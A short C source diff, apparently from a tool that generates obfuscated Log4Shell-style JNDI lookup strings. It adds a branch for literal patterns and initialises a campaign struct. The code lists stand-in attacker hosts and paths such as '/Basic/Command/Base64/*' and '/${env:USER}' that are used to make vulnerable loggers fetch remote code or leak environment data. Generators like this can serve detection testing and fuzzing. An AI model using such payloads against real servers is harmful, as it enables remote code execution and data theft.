@@ -55,6 +55,11 @@ void attack_put(struct line *out, struct gen *g, const struct campaign *c)
 {
     static struct line expression;
     expression.n = 0;
+    if (c->literal) {
+        put_pattern(&expression, g, c->literal, 8);
+        encode(out, &expression, c->encoding);
+        return;
+    }
     line_text(&expression, "${");
     obfuscate(&expression, g, "jndi", c->obfuscation);
     line_byte(&expression, ':');
@@ -72,7 +77,7 @@ void attack_random(struct line *out, struct gen *g)
     static const char *const hosts[] = {"198.51.100.23:1389", "203.0.113.66:1389", "*.drip.example", "*.hook.example:1389",
                                         "*.${hostName}.leak.example", "[2001:db8::66]:1389", "cb.pawn.example:3890"};
     static const char *const paths[] = {"/a", "/Exploit", "/Basic/Command/Base64/*", "/*", "/o=reference", "/${env:USER}"};
-    struct campaign c;
+    struct campaign c = {0};
     /* One draw per statement: the order of evaluation within one is the compiler's choice. */
     c.scheme = schemes[gen_below(g, 6)];
     c.host = hosts[gen_below(g, 7)];
